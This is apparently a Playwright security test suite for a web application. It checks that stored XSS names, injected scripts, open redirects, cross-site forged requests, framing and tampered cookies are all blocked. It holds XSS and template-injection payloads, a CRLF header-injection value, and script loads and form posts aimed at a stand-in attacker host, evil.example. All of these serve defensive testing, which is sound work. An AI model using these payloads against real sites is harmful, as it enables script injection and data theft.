import type { Page } from '@playwright/test';
import { signIn, type ApiClient } from '../api.js';
import { openSession } from '../browser.js';
import { openEvilSite } from '../evil-site.js';
import { BLOCKED_HANDLER, expectFailedRequests, expectPageErrors } from '../page-errors.js';
import { DAY, expect, test, type Product } from '../product.js';

/** The browser's message about a script, a frame or a request that the policy of a page or of a server blocks. */
const BLOCKED = /violates the following Content Security Policy directive|has been blocked by CORS policy/;

/** Runs code if a name is ever rendered as markup or filled into a template by a library. */
const NAME = '<img src=x onerror=alert(1)>';
const MORE = '"><svg/onload=alert(2)>{{app_name}}$t(rights)';
const LABEL = `${NAME} ${MORE}`;

interface Watched {
  /** Returns the blocked actions of the page and its dialogs. */
  readonly ran: () => Promise<readonly string[]>;
}
/** Watches a page for anything that runs because of a name: a dialog, a policy violation, an element. */
async function watch(page: Page): Promise<Watched> {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const stored: string[] = [];
    Object.assign(globalThis, { kept: stored });
    document.addEventListener('securitypolicyviolation', (violation) =>
      stored.push(`${violation.violatedDirective} ${violation.blockedURI}`),
    );
  });
  return {
    ran: async () => {
      const found = await page.evaluate(() => [
        ...(globalThis as unknown as { kept: string[] }).kept,
        ...[...document.querySelectorAll('img[src="x"], svg[onload], [onerror]')].map(({ outerHTML }) => outerHTML),
      ]);
      return [...dialogs, ...found];
    },
  };
}

const readToken = async (page: Page): Promise<string | undefined> =>
  (await page.context().cookies()).find(({ name }) => name === 'tailboard_token')?.value;
const menu = (page: Page) => page.getByRole('navigation', { name: 'Main navigation' });

test.describe('A name that is markup', () => {
  let owner: ApiClient;
  let id = '';
  test.beforeAll(async ({ product }) => {
    owner = await signIn(product, 'owner');
    const { status, body } = await owner.request<{ data: { id: string } }>('POST', '/users', {
      json: {
        email: 'markup@example.com',
        technician_id: 'XSS1',
        label: LABEL,
        roles: ['technician'],
        profile: { first_name: NAME, last_name: MORE, notes: LABEL, unpaid: true },
      },
    });
    if (status !== 201) throw new Error(`the user was not added: ${status} ${JSON.stringify(body)}`);
    id = body.data.id;
  });
  // Removes the technician, because other tests expect boards without them.
  test.afterAll(() => owner.request('DELETE', `/users/${id}?force=true`));

  test('is shown as it is in list, profile, palette, picker, board, banner and menu, and nothing runs', async ({
    page,
    product,
  }) => {
    const watched = await watch(page);
    await openSession(page, product, 'owner');
    const words = (within: ReturnType<Page['locator']> | Page) => within.getByText(LABEL, { exact: false }).first();

    await page.goto('/admin/techs/users?q=markup');
    await expect(words(page.getByRole('table', { name: 'All Techs' }))).toBeVisible();
    await page.goto(`/admin/techs/users/view?id=${id}`);
    await expect(words(page.getByRole('heading', { level: 1 }))).toBeVisible();
    expect(await page.title()).toContain(NAME);
    await page.getByRole('tab', { name: 'History' }).click();
    await expect(page.getByRole('row').nth(1)).toBeVisible();

    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('onerror');
    await expect(words(page.getByRole('option'))).toBeVisible();
    await page.keyboard.press('Escape');
    expect(await watched.ran()).toEqual([]);

    await page.goto(`/admin/jobs/assign?date=${DAY}`);
    await expect(words(page.getByRole('heading', { level: 3 }))).toBeVisible();
    expect(await watched.ran()).toEqual([]);

    await page.getByRole('button', { name: /Account of/ }).click();
    await page.getByRole('menuitem', { name: 'Switch User' }).click();
    const window = page.getByRole('dialog', { name: 'Switch Users' });
    await window.getByRole('combobox', { name: 'User' }).fill('onerror');
    await page.getByRole('option').first().click();
    await expect(window.getByRole('combobox', { name: 'User' })).toHaveValue(`${LABEL} · XSS1`);
    expect(await watched.ran()).toEqual([]);
    await window.getByRole('button', { name: 'Impersonate' }).click();
    await expect(page.getByRole('alertdialog')).toContainText(LABEL);
    await expect(words(page.getByRole('region', { name: 'Switch Users' }))).toBeVisible();
    await page.getByRole('button', { name: `Account of ${LABEL}` }).click();
    await expect(words(page.getByRole('menu'))).toBeVisible();
    await page.getByRole('menuitem', { name: 'Stop Impersonating' }).click();
    await expect(page.getByRole('alertdialog')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Account of Li Marsh' })).toBeVisible();
    expect(await watched.ran()).toEqual([]);
  });

  test('finds no way past the policy of the page, even where markup of theirs was in it', async ({ page, product }) => {
    expectPageErrors(BLOCKED);
    const watched = await watch(page);
    const reported = page.waitForResponse('**/csp-reports');
    // As in a browser without Trusted Types, which would refuse the markup before it is in the page.
    await page.route('/login', async (route) => {
      const response = await route.fetch();
      const policy = response.headers()['content-security-policy'] ?? '';
      const older = policy.replaceAll(/;(?:require-)?trusted-types[^;]*/g, '');
      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': older } });
    });
    await page.goto('/login');
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="x" onerror="alert(1)"><a id="a" href="javascript:alert(2)">',
      );
      for (const [key, value] of [
        ['textContent', 'alert(3)'],
        ['src', 'https://evil.example/x.js'],
        ['src', 'data:text/javascript,alert(4)'],
      ] as const)
        document.body.append(Object.assign(document.createElement('script'), { [key]: value }));
      document.querySelector<HTMLElement>('#a')?.click();
      const form = Object.assign(document.createElement('form'), {
        action: 'https://evil.example/take',
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    });
    const readViolations = () => page.evaluate(() => (globalThis as unknown as { kept: string[] }).kept);
    await expect
      .poll(async () => [...new Set((await readViolations()).map((one) => one.split(' ')[0]))].sort())
      .toEqual(['form-action', 'script-src-attr', 'script-src-elem']);
    expect((await reported).status()).toBe(204);
    // A blocked form leaves the page where it was. The navigation that it began never ends.
    expect(await page.evaluate(() => location.href)).toBe(`${product.address}/login`);
    expect((await watched.ran()).filter((one) => /^\d$/.test(one))).toEqual([]);
  });
});

test.describe('Text of an attacker that reaches code of the page', () => {
  test('becomes no script, no address of a script and no markup', async ({ page, product }) => {
    expectPageErrors(/requires 'Trusted|TrustedTypePolicy named 'mine'|Refused to create a worker/, BLOCKED_HANDLER);
    await openSession(page, product, 'manager');
    await page.goto('/admin/messages/add');
    await expect(page.locator('.ProseMirror')).toBeVisible();
    const results = await page.evaluate(() => {
      const attempt = (act: () => unknown): string => {
        try {
          return String(act());
        } catch (error) {
          return (error as Error).name;
        }
      };
      const script = () => document.createElement('script');
      const box = document.createElement('div');
      const parse = (html: string) => ((box.innerHTML = html), box.innerHTML);
      return {
        supported: 'trustedTypes' in globalThis,
        script: attempt(() => (script().textContent = 'alert(1)')),
        elsewhere: attempt(() => (script().src = 'https://evil.example/x.js')),
        data: attempt(() => (script().src = 'data:text/javascript,alert(1)')),
        uploaded: attempt(() => (script().src = '/storage/plan.js')),
        worker: attempt(() => new Worker('https://evil.example/w.js')),
        frame: attempt(() => {
          const frame = document.createElement('iframe');
          frame.srcdoc = '<script>alert(1)</script>';
          return frame.srcdoc;
        }),
        policy: attempt(() =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
          ).trustedTypes.createPolicy('mine', {}),
        ),
        markup: attempt(() =>
          parse('<p onclick="alert(1)">a<img src="x" onerror="alert(1)"><script>alert(1)</script></p>'),
        ),
      };
    });
    expect(results).toEqual({
      supported: true,
      script: 'TypeError',
      elsewhere: 'TypeError',
      data: 'TypeError',
      uploaded: 'TypeError',
      worker: 'TypeError',
      frame: '',
      policy: 'TypeError',
      markup: '<p>a<img></p>',
    });
  });
});

test.describe('A redirect that leads elsewhere', () => {
  const ways = [
    '//evil.example',
    'https://evil.example/login',
    'https:evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '/login?redirect=//evil.example',
  ];
  const toSignInPath = (way: string, raw: boolean) => `/login?redirect=${raw ? way : encodeURIComponent(way)}`;

  test('leads to the dashboard, after a sign-in and when a user is in already', async ({ page, product }) => {
    const strays: string[] = [];
    page.on('request', (request) => {
      if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(product.address))
        strays.push(request.url());
    });
    const watched = await watch(page);
    await page.goto(toSignInPath('//evil.example', false));
    await page.getByLabel('E-mail').fill(product.getEmail('manager'));
    await page.getByRole('textbox', { name: 'Password' }).fill(product.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(menu(page)).toBeVisible();
    await expect(page).toHaveURL(`${product.address}/`);
    for (const way of ways)
      for (const raw of [false, true]) {
        await page.goto(toSignInPath(way, raw));
        await expect(menu(page)).toBeVisible();
        await expect(page).toHaveURL(`${product.address}/`);
      }
    expect(strays).toEqual([]);
    expect(await watched.ran()).toEqual([]);
  });
});

test.describe('Another site', () => {
  /** Sends what a page of another origin can send, with everything that the browser adds. Returns the result. */
  const forge = (page: Page, address: string) =>
    page.evaluate(async (to) => {
      const name = `Forged ${location.host}`;
      const send = (path: string, init: RequestInit) =>
        fetch(`${to}/api/v1${path}`, { credentials: 'include', ...init }).then(
          (response) => response.type,
          () => 'refused by the browser',
        );
      const json = JSON.stringify({ name });
      return {
        'as plain text': await send('/locations', { method: 'POST', mode: 'no-cors', body: json }),
        'as a form': await send('/locations', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ name }) }),
        'as JSON': await send('/locations', {
          method: 'POST',
          body: json,
          headers: { 'content-type': 'application/json' },
        }),
        'with a token of its own': await send('/user', { headers: { authorization: 'Bearer x' } }),
        'reading the user': await send('/user', {}),
        'signing out': await send('/logout', { method: 'POST', mode: 'no-cors' }),
      };
    }, address);

  test('sends what it likes with the visitor’s cookies, and nothing happens', async ({ page, product }) => {
    expectPageErrors(BLOCKED);
    // For a response that is no page, the browser requests an icon.
    expectFailedRequests(['no network', '/api/'], [401, '/locations'], [404, '/favicon.ico']);
    const evil = await openEvilSite(
      '<form method="post" enctype="text/plain"><input name=\'{"name":"Forged form","x":"\' value=\'"}\'></form>',
    );
    try {
      const owner = await openSession(page, product, 'owner');
      const names = async () => (await owner.request<unknown>('GET', '/locations')).body;
      const before = await names();
      const answers: number[] = [];
      page.on('response', (response) => {
        if (response.url().startsWith(`${product.address}/api/`)) answers.push(response.status());
      });
      for (const origin of [evil.address, evil.neighbour]) {
        await page.goto(origin);
        expect(await forge(page, product.address)).toEqual({
          'as plain text': 'refused by the browser',
          'as a form': 'refused by the browser',
          'as JSON': 'refused by the browser',
          'with a token of its own': 'refused by the browser',
          'reading the user': 'refused by the browser',
          'signing out': 'refused by the browser',
        });
        const sent = page.waitForResponse(`${product.address}/api/v1/locations`);
        await page.locator('form').evaluate((form: HTMLFormElement, to) => {
          form.action = `${to}/api/v1/locations`;
          form.submit();
        }, product.address);
        expect((await sent).status()).toBe(401);
        await page.waitForURL(`${product.address}/api/v1/locations`);
      }
      expect(answers.filter((status) => status < 400)).toEqual([]);
      expect(await names()).toEqual(before);
      await page.goto('/');
      await expect(page.getByRole('button', { name: 'Account of Li Marsh' })).toBeVisible();
    } finally {
      evil.stop();
    }
  });

  test('cannot put a page of the product into a frame of its own', async ({ page, product }) => {
    expectPageErrors(BLOCKED);
    const evil = await openEvilSite(`<iframe src="${product.address}/login"></iframe>`);
    try {
      for (const path of ['/', '/login', '/admin/settings', '/remotes/dispatch/mf-manifest.json']) {
        const { headers } = await fetch(product.address + path);
        expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
        expect(headers.get('x-frame-options')).toMatch(/^(SAMEORIGIN|DENY)$/i);
        expect(headers.get('referrer-policy')).toBe('no-referrer');
      }
      for (const origin of [evil.address, evil.neighbour]) {
        const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
        await page.goto(origin);
        await refused;
        await expect(page.frameLocator('iframe').getByLabel('E-mail')).toHaveCount(0);
      }
    } finally {
      evil.stop();
    }
  });
});

test.describe('A user who changes what the browser keeps', () => {
  const put = (page: Page, product: Product, name: string, value: string) =>
    page.context().addCookies([{ name, value, url: product.address }]);

  test('is anonymous with an invalid token, and leaves no trace of it', async ({ page, product }) => {
    expectFailedRequests([401, '/api/v1/']);
    for (const token of ['garbage', 'Bearer%20x', 'a%0d%0aX-Forged%3A%20yes', '"><script>alert(1)</script>']) {
      await put(page, product, 'tailboard_token', token);
      await put(page, product, 'tailboard_own_token', token);
      await put(page, product, 'tailboard_locale', '<script>');
      await page.goto('/admin/settings');
      await expect(page).toHaveURL('/login?redirect=%2Fadmin%2Fsettings');
      await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
      expect(await readToken(page)).toBeUndefined();
      expect(await page.evaluate(() => localStorage.getItem('user'))).toBeNull();
    }
  });

  test('is no more than they are, whatever they write of themselves', async ({ page, product }) => {
    const technician = await openSession(page, product, 'technician');
    await page.goto('/');
    await expect(menu(page)).toBeVisible();
    await page.evaluate(() => {
      const user = JSON.parse(localStorage.getItem('user') ?? '{}') as object;
      localStorage.setItem('user', JSON.stringify({ ...user, roles: ['owner'], label: 'The Owner' }));
      localStorage.setItem('impersonating', 'true');
    });
    await put(page, product, 'tailboard_own_token', technician.token);
    await page.goto('/admin/techs/users');
    await expect(page).toHaveURL('/');
    await expect(menu(page).getByRole('link', { name: 'Dashboard' })).toBeVisible();
    await expect(menu(page).getByRole('link', { name: 'Settings' })).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Account of The Owner' })).toHaveCount(0);
    await expect(page.getByRole('region', { name: 'Switch Users' })).toHaveCount(0);
  });
});
